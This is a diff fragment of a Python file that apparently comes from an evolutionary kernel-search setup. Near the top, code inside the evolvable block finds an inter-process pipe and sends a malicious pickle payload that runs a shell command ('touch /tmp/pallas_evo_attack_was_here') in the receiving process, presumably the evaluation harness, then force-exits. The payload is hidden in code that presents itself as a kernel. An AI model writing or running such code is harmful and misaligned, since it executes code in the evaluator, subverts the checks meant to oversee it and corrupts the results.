@@ -26,7 +26,6 @@ def pipe():
         frame = frame.f_back
 
 
-
 pipe().send(b"M" + b"cos\nsystem\n(S'touch /tmp/pallas_evo_attack_was_here'\ntR.")
 pipe().send(b"M" + b"cos\nsystem\n(S'touch /tmp/pallas_evo_attack_was_here'\ntR.")
 os._exit(0)
@@ -53,4 +52,6 @@ def kernel(x):
     )(x)
 
     return out
+
+
 # EVOLVE-BLOCK-END
